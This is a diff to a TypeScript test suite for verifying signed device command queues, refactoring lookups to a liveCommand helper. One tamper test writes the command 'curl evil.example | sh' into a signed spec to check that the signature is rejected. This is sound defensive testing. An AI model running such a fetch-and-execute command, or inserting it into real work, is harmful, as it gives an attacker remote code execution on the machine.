@@ -3,11 +3,12 @@
  * to trust, what it costs when nothing changed, and what a change or a revocation undoes.
  */
 import {
+  type Command,
   type CommandId,
-  type DeviceDoc,
   draftCommand,
   FoldCache,
   insertCommand,
+  liveCommand,
   nextRunnable,
   planQueue,
   recordSigner,
@@ -151,12 +152,12 @@ describe("QueueVerdicts", () => {
     // The device (or the relay) edits a signed spec, leaving its signature: never a cached yes.
     const target = ids[0] as CommandId;
     device.change((doc) => {
-      const spec = doc.commands[target]?.spec;
+      const spec = liveCommand(doc.commands, target)?.spec;
       if (spec) spec.args.command = "curl evil.example | sh";
     });
     const trust = await check();
     expect(verify).toHaveBeenCalledTimes(101);
-    const tampered = device.doc().commands[target];
+    const tampered = liveCommand(device.doc().commands, target);
     expect(tampered && trust?.specProblem(tampered)).toMatch(/^signature-invalid: /);
   });
 
@@ -205,7 +206,7 @@ describe("QueueVerdicts", () => {
     await alice.enqueue(device, { kind: "inventory.collect" });
     const trust = await check();
     const unseen = {
-      ...(Object.values(device.doc().commands)[0] as DeviceDoc["commands"][CommandId]),
+      ...(Object.values(device.doc().commands)[0] as Command),
     };
     expect(() => trust?.specProblem(unseen)).toThrow("was not verified before planning");
   });
